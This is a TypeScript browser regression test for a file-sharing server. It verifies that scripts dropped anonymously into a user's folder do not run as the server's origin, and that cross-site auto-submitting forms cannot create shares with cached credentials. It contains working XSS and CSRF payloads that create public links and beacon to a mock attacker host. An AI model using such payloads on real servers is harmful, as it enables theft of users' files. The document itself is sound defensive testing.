import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Browser, type BrowserContext, type Page } from 'playwright-core';
import { basic, call, ocs } from '../integration/helpers/http';
import { startNode, type TestNode } from '../integration/helpers/node';
import { launchChromium } from './support/chromium';

/**
 * Issue 8, findings 1 and 2, in a real browser as a victim's would be (plain headless Chromium, no extension):
 * (a) an anonymous visitor drops an HTML page and an SVG with script into alice's file drop; alice, logged in to the
 *     node's web UI, opens them. The script must not run as the node's origin (it would create a link with alice's
 *     session and call home to the attacker).
 * (b) alice's browser holds her Basic credentials for the node; she visits the attacker's page on another origin
 *     (localhost vs 127.0.0.1), which auto-submits forms that would send alice's folder to the attacker's cloud id
 *     (shareType 6) and mount the attacker's share (`external`). Nothing may happen.
 */

const ALICE = { name: 'alice', password: 'alice-victim-pw' };
const SHARES = '/ocs/v2.php/apps/files_sharing/api/v1/shares';

let node: TestNode;
let attacker: { url: string; hits: string[]; close(): Promise<void> };
let browser: Browser;

/** The attacker's site: attack pages, an OCM receiver and a public WebDAV to mount, and a beacon. Records every hit. */
async function startAttacker(nodeUrl: string): Promise<typeof attacker> {
  const hits: string[] = [];
  let base = '';
  const autoSubmit = (action: string, fields: Record<string, string>) => `<!doctype html><title>Win a prize</title>
<form method="post" action="${action}">${Object.entries(fields)
    .map(([k, v]) => `<input type="hidden" name="${k}" value="${v}">`)
    .join('')}</form>
<script>document.forms[0].submit()</script>`;
  const server = http.createServer((req, res) => {
    req.resume();
    const path = (req.url ?? '/').split('?')[0] ?? '/';
    hits.push(`${req.method ?? ''} ${path}`);
    const json = (status: number, body: unknown) =>
      res.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify(body));
    if (path === '/attack/share') {
      res
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end(autoSubmit(`${nodeUrl}${SHARES}`, { path: '/Projects', shareType: '6', shareWith: `mallory@${base}` }));
    } else if (path === '/attack/external') {
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(
        autoSubmit(`${nodeUrl}/index.php/apps/files_sharing/external`, {
          remote: base,
          token: 'malloryToken123',
          owner: 'mallory',
          ownerDisplayName: 'Mallory',
          name: 'Totally legit',
          password: '',
        }),
      );
    } else if (path === '/status.php') {
      json(200, {
        installed: true,
        maintenance: false,
        version: '10.15.2.0',
        versionstring: '10.15.2',
        productname: 'ownCloud',
      });
    } else if (path === '/ocm-provider/' || path === '/ocm-provider') {
      json(200, {
        enabled: true,
        apiVersion: '1.0-proposal1',
        endPoint: `${base}/ocm`,
        resourceTypes: [{ name: 'file', shareTypes: ['user'], protocols: { webdav: '/public.php/webdav/' } }],
      });
    } else if (path === '/ocm/shares') {
      json(201, {});
    } else if (path.startsWith('/public.php/webdav') && req.method === 'PROPFIND') {
      res
        .writeHead(207, { 'Content-Type': 'application/xml' })
        .end(
          '<?xml version="1.0"?><d:multistatus xmlns:d="DAV:"><d:response><d:href>/public.php/webdav/</d:href>' +
            '<d:propstat><d:prop><d:resourcetype><d:collection/></d:resourcetype></d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response></d:multistatus>',
        );
    } else {
      res.writeHead(path === '/beacon' ? 204 : 404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // Another site than the node (127.0.0.1): same machine, different host name.
  base = `http://localhost:${(server.address() as AddressInfo).port}`;
  return {
    url: base,
    hits,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

async function aliceShares(): Promise<{ share_type: number; path: string }[]> {
  const { body } = await ocs(`${node.url}${SHARES}`, 'GET', { auth: [ALICE.name, ALICE.password] });
  return body.ocs.data as { share_type: number; path: string }[];
}

async function aliceMounts(): Promise<unknown[]> {
  const { body } = await ocs(`${node.url}/ocs/v2.php/apps/files_sharing/api/v1/remote_shares/all`, 'GET', {
    auth: [ALICE.name, ALICE.password],
  });
  return body.ocs.data as unknown[];
}

beforeAll(async () => {
  node = await startNode({ users: [ALICE], files: { alice: { 'Drop/': '', 'Projects/plan.txt': 'secret plan' } } });
  attacker = await startAttacker(node.url);
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await attacker?.close();
  await node?.stop();
});

describe('a file dropped by a stranger, opened by the logged-in owner', () => {
  /**
   * The dropped script: with the owner's session it creates a public link of Projects, then reports to the attacker.
   * `window.attack` lets the test wait for it, so a run of the script shows as a created share, not as a race.
   */
  const payload = (
    beaconUrl: string,
  ) => `window.attack = fetch('/ocs/v2.php/apps/files_sharing/api/v1/shares?format=json', {
  method: 'POST', headers: { 'OCS-APIRequest': 'true', 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'path=%2FProjects&shareType=3',
}).then((r) => r.status).finally(() => { new Image().src = '${beaconUrl}?from=' + encodeURIComponent(location.origin); });`;

  /** Opens a URL in the victim's tab; a download is reported as such (no document, nothing can run). */
  async function open(
    page: Page,
    url: string,
  ): Promise<{ download: boolean; status?: number; headers?: Record<string, string> }> {
    const download = page.waitForEvent('download', { timeout: 10_000 });
    download.catch(() => undefined);
    try {
      const response = await page.goto(url);
      // A document was shown: give a script in it the time to finish what it started.
      await page.evaluate(() => (window as unknown as { attack?: Promise<unknown> }).attack ?? null);
      return { download: false, status: response?.status(), headers: await response?.allHeaders() };
    } catch (error) {
      if (!/Download is starting/.test(String(error))) throw error;
      await (await download).cancel();
      return { download: true };
    }
  }

  let context: BrowserContext;
  afterAll(async () => context?.close());

  it('downloads it (or refuses it) instead of running its script as the node', async () => {
    const { body } = await ocs(`${node.url}${SHARES}`, 'POST', {
      auth: [ALICE.name, ALICE.password],
      form: { path: '/Drop', shareType: '3', permissions: '4' },
    });
    const dropToken = (body.ocs.data as { token: string }).token;
    const beacon = `${attacker.url}/beacon`;
    const files = {
      'invoice.html': `<!doctype html><title>Invoice</title><h1>Invoice</h1><script>${payload(beacon)}</script>`,
      'logo.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>${payload(beacon)}</script></svg>`,
    };
    for (const [name, content] of Object.entries(files)) {
      // Anonymous: only the link token, as anyone who has the file-drop link can.
      expect(
        (await call(`${node.url}/public.php/webdav/${name}`, 'PUT', { auth: [dropToken, ''], body: content })).status,
      ).toBe(201);
    }

    context = await browser.newContext({ acceptDownloads: true });
    const page = await context.newPage();
    await page.goto(`${node.url}/index.php/login`);
    await page.fill('#user', ALICE.name);
    await page.fill('#password', ALICE.password);
    await Promise.all([
      page.waitForURL(`${node.url}/index.php/apps/files/`),
      page.click('button[type=submit], input[type=submit]'),
    ]);
    await page.goto(`${node.url}/index.php/apps/files/?dir=/Drop`);
    const links = await page
      .locator('td a')
      .evaluateAll((anchors) => anchors.map((a) => (a as HTMLAnchorElement).href));
    expect(links).toHaveLength(2); // the owner sees both dropped files in the web UI

    const opened = [];
    for (const url of [
      ...links,
      ...Object.keys(files).flatMap((name) => [
        `${node.url}/remote.php/dav/files/alice/Drop/${name}`,
        `${node.url}/remote.php/webdav/Drop/${name}`,
      ]),
    ]) {
      opened.push({ url, ...(await open(page, url)) });
    }
    // No script ran: no link of Projects, no call home.
    expect((await aliceShares()).map((s) => s.path)).toEqual(['/Drop']);
    expect(attacker.hits.filter((hit) => hit.startsWith('GET /beacon'))).toEqual([]);
    // The web UI's links are downloads; WebDAV does not take the session at all (and does not ask for a password).
    expect(opened.filter((r) => r.download).map((r) => r.url)).toEqual(links);
    for (const result of opened.filter((r) => !r.download)) {
      expect(result.status, result.url).toBe(401);
      expect(result.headers?.['www-authenticate'], result.url).toBeUndefined();
    }
  });
});

describe("a cross-site page, in a browser that holds the owner's Basic credentials", () => {
  let context: BrowserContext;
  afterAll(async () => context?.close());

  it('never gets the browser asked for the password by a navigation', async () => {
    // The browser would answer any challenge with alice's credentials (as a saved password would).
    context = await browser.newContext({
      httpCredentials: { username: ALICE.name, password: ALICE.password, origin: node.url },
    });
    const page = await context.newPage();
    const response = await page.goto(`${node.url}/ocs/v2.php/cloud/user?format=json`);
    expect(response?.status()).toBe(401);
    expect((await response?.allHeaders())?.['www-authenticate']).toBeUndefined();
  });

  it("cannot send the owner's folder to the attacker (shareType 6) with credentials the browser cached", async () => {
    const page = await context.newPage();
    // alice's own page looks at her shares through the API: the browser answers the challenge and caches the
    // credentials for the whole API folder, so it sends them on its own with later requests there.
    await page.goto(`${node.url}/status.php`);
    expect(await page.evaluate(async (path) => (await fetch(`${path}?format=json`)).status, SHARES)).toBe(200);

    const refused = page.waitForResponse(
      (r) => r.url().startsWith(`${node.url}${SHARES}`) && r.request().method() === 'POST',
    );
    await page.goto(`${attacker.url}/attack/share`);
    const answer = await refused;
    expect((await answer.request().allHeaders()).authorization).toBe(basic(ALICE.name, ALICE.password)); // the credentials went along
    expect(answer.status()).toBe(412);
    expect(await answer.text()).toBe('{"message":"CSRF check failed"}');
    expect((await aliceShares()).filter((s) => s.path === '/Projects')).toEqual([]);
    expect(attacker.hits.filter((hit) => hit.startsWith('POST /ocm'))).toEqual([]);
  });

  it("cannot create a share or mount the attacker's share with credentials held for the whole origin", async () => {
    // A browser that authenticated at the root sends the credentials to every path of the node.
    await context.setExtraHTTPHeaders({ Authorization: basic(ALICE.name, ALICE.password) });
    const page = await context.newPage();
    for (const [attack, target] of [
      ['/attack/share', SHARES],
      ['/attack/external', '/index.php/apps/files_sharing/external'],
    ]) {
      const refused = page.waitForResponse(
        (r) => r.url().startsWith(`${node.url}${target}`) && r.request().method() === 'POST',
      );
      await page.goto(`${attacker.url}${attack}`);
      const answer = await refused;
      expect(answer.status(), attack).toBe(412);
    }
    expect((await aliceShares()).filter((s) => s.path === '/Projects')).toEqual([]);
    expect(await aliceMounts()).toEqual([]);
    // The node never even probed the attacker's server.
    expect(attacker.hits.filter((hit) => !hit.startsWith('GET /attack/'))).toEqual([]);
  });
});
